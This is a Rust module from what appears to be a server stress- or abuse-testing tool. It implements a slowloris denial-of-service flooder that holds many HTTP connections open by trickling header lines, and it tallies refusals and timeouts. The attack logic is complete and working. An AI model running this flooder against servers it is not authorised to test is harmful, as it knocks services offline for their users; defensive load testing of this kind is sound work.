//! The slowloris flooder: holds [`SOCKETS`] sockets that each send the
//! start of an HTTP request head and then one more header line a second,
//! never ending it, and opens a new one whenever the server lets one go
//! (refused at once with 503 under `--max-handshakes`, or ended by its
//! handshake timeout). One pass over the sockets a second until the abuse
//! is over.

use std::{
    io,
    net::{Ipv4Addr, SocketAddr},
};

use tokio::{
    io::AsyncWriteExt,
    net::{TcpSocket, TcpStream},
    time::{Duration, Instant, sleep_until, timeout},
};

use crate::{cli::Flood, report::Count, run::Shared};

/// Sockets each slowloris flooder holds at once.
const SOCKETS: usize = 16;
const TICK: Duration = Duration::from_secs(1);
const CONNECT_TIMEOUT: Duration = Duration::from_secs(1);

/// One held socket and when it was opened.
struct Held {
    stream: TcpStream,
    since: Instant,
}

/// Holds the sockets until `end`; they are dropped (closed) then.
pub(super) async fn hold(shared: &Shared, source: Ipv4Addr, end: Instant) {
    let tally = &shared.abuse;
    let mut held: Vec<Option<Held>> = (0..SOCKETS).map(|_| None).collect();
    let mut next_tick = Instant::now();
    // Bounded by time: one pass a second until `end`.
    while Instant::now() < end {
        for (line, place) in held.iter_mut().enumerate() {
            if place.is_none() {
                *place = open(shared, source).await;
            }
            let Some(socket) = place else { continue };
            match check(socket, line) {
                Ok(()) => {}
                Err(ended) => {
                    tally.add(Flood::Slowloris, ended, 1);
                    if ended == Count::TimedOut {
                        let held_ms = socket.since.elapsed().as_millis() as u64;
                        tally.add(Flood::Slowloris, Count::HeldMaxMs, held_ms);
                    }
                    *place = None;
                }
            }
        }
        next_tick += TICK;
        sleep_until(next_tick.min(end)).await;
    }
}

/// Connects from `source` and sends the request line and `Host`.
async fn open(shared: &Shared, source: Ipv4Addr) -> Option<Held> {
    let target = &shared.options.target;
    let connecting = async {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::new(source.into(), 0))?;
        let mut stream = socket.connect(target.addr.into()).await?;
        let start = format!("GET {} HTTP/1.1\r\nHost: {}\r\n", target.path, target.host);
        stream.write_all(start.as_bytes()).await?;
        io::Result::Ok(stream)
    };
    match timeout(CONNECT_TIMEOUT, connecting).await {
        Ok(Ok(stream)) => {
            shared.abuse.add(Flood::Slowloris, Count::Opened, 1);
            Some(Held {
                stream,
                since: Instant::now(),
            })
        }
        _ => {
            shared.abuse.add(Flood::Slowloris, Count::ConnectFailed, 1);
            None
        }
    }
}

/// Whether the server answered or closed (`Err` with which), else sends
/// one more header line (without waiting: a full socket just skips one).
fn check(socket: &mut Held, line: usize) -> Result<(), Count> {
    let mut answer = [0; 512];
    match socket.stream.try_read(&mut answer) {
        Ok(0) => return Err(Count::TimedOut),
        Ok(n) if answer[..n].starts_with(b"HTTP/1.1 503") => return Err(Count::Refused503),
        Ok(_) => return Err(Count::TimedOut),
        Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
        Err(_) => return Err(Count::CutOff),
    }
    let header = format!("X-Slow-{line}: {}\r\n", socket.since.elapsed().as_millis());
    match socket.stream.try_write(header.as_bytes()) {
        Err(error) if error.kind() != io::ErrorKind::WouldBlock => Err(Count::CutOff),
        _ => Ok(()),
    }
}
